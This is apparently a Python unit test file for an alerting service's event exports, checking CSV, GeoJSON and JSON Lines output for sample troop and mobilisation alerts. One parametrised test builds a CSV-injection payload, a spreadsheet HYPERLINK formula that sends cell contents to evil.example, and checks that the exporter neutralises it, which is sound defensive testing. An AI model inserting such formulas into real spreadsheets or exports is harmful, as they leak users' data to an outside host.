"""Event exports: one row per alerted event, GeoJSON points in lon,lat order, CSV columns and
CSV-injection safety, JSON Lines."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import orjson
import pytest

from services.alerting.exports import (
    CSV_COLUMNS,
    export_events,
    render,
    safe_cell,
    to_csv,
    to_geojson,
    to_jsonl,
)
from services.alerting.history import AlertQuery, MemoryAlertHistory
from shared.records import Actor, Location
from tests.unit.alerting_api.alerts import (
    T0,
    located_troops,
    mobilisation_alert,
    shells_alert,
    troops_alert,
)


@pytest.fixture
def history() -> MemoryAlertHistory:
    h = MemoryAlertHistory()
    for alert in (located_troops(), shells_alert(), mobilisation_alert()):
        h.add(alert)
    return h


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def test_one_row_per_event_newest_first_with_the_latest_version(history) -> None:
    history.add(located_troops(version=2, alerted=T0 + 300))
    rows = export_events(history, AlertQuery())
    assert [r["event_id"] for r in rows] == [
        "sig-kp-ru-troops", "sig-pl-mobilisation", "sig-kp-ru-shells",
    ]
    troops = rows[0]
    assert troops["version"] == 2
    assert troops["date"] == "2025-07-14T08:05:00Z"
    assert troops["actors"][0] == {
        "role": "sender", "name": "North Korea", "kind": "country", "code": "KP",
    }
    assert troops["quantity"] == {
        "min": 25_000, "max": 30_000, "unit": "troops", "approximate": False,
    }
    assert [s["publisher"] for s in troops["sources"]] == ["CNN", "BBC News"]
    assert troops["story_id"] == "story-kp-ru"


def test_two_rules_on_one_event_make_one_row_naming_both(history) -> None:
    other_rule = replace(
        located_troops(alerted=T0 + 10), alert_id="another-id", rule="any-deployment"
    )
    history.add(other_rule)
    rows = export_events(history, AlertQuery(event_type="troop_deployment"))
    assert len(rows) == 1
    assert rows[0]["rules"] == ["any-deployment", "large-troop-deployment"]


def test_filters_and_limit_apply(history) -> None:
    assert [r["type"] for r in export_events(history, AlertQuery(country="PL"))] == [
        "mobilisation"
    ]
    assert len(export_events(history, AlertQuery(limit=2))) == 2
    assert export_events(history, AlertQuery(since=T0 + 1000)) == []


def test_geojson_has_a_point_in_lon_lat_order_for_located_events_only(history) -> None:
    rows = export_events(history, AlertQuery())
    collection = orjson.loads(to_geojson(rows))
    assert collection["type"] == "FeatureCollection"
    [feature] = collection["features"]  # shells have no location, Warsaw no coordinates
    assert feature["geometry"] == {"type": "Point", "coordinates": [36.19, 51.73]}
    assert feature["id"] == "sig-kp-ru-troops"
    assert feature["properties"]["location"]["name"] == "Kursk"


def test_csv_has_the_documented_columns_and_aligned_lists(history) -> None:
    body = to_csv(export_events(history, AlertQuery()))
    assert body.startswith(",".join(CSV_COLUMNS).encode() + b"\r\n")
    rows = csv_rows(body)
    troops = rows[-1]
    assert troops["actor_roles"] == "sender|recipient"
    assert troops["actor_names"] == "North Korea|Russia"
    assert troops["actor_codes"] == "KP|RU"
    assert (troops["location"], troops["country"]) == ("Kursk", "RU")
    assert (float(troops["lat"]), float(troops["lon"])) == (51.73, 36.19)
    assert float(troops["quantity_min"]) == 25_000 and float(troops["quantity_max"]) == 30_000
    assert troops["quantity_unit"] == "troops"
    assert troops["quantity_approximate"] == "false"
    assert troops["source_urls"].split("|")[0].startswith("https://edition.cnn.com/")
    assert rows[1]["location"] == "" and rows[1]["lat"] == ""  # shells: no location


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(start: str) -> None:
    payload = f"{start}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
    alert = troops_alert()
    event = replace(
        alert.event,
        sentence=payload,
        actors=(Actor("sender", payload, "country", "KP"),),
        location=Location(payload, "RU", lat=-33.9, lon=-70.6),
    )
    history = MemoryAlertHistory()
    history.add(replace(alert, event=event, summary=payload))
    [row] = csv_rows(to_csv(export_events(history, AlertQuery())))
    for column in ("sentence", "summary", "actor_names", "location"):
        assert row[column] == "'" + payload, column
    assert (row["lat"], row["lon"]) == ("-33.9", "-70.6")  # numbers stay numbers


def test_safe_cell_leaves_ordinary_text_alone() -> None:
    assert safe_cell("North Korea → Russia: 30,000 troops") == "North Korea → Russia: 30,000 troops"
    assert safe_cell("") == ""
    assert safe_cell("a=b") == "a=b"


def test_jsonl_is_one_row_per_line_and_render_knows_every_format(history) -> None:
    rows = export_events(history, AlertQuery())
    lines = to_jsonl(rows).splitlines()
    assert [orjson.loads(line)["event_id"] for line in lines] == [r["event_id"] for r in rows]
    assert orjson.loads(render(rows, "json")) == {"events": rows, "count": 3}
    assert render(rows, "csv") == to_csv(rows)
    assert render([], "geojson") == b'{"type":"FeatureCollection","features":[]}'
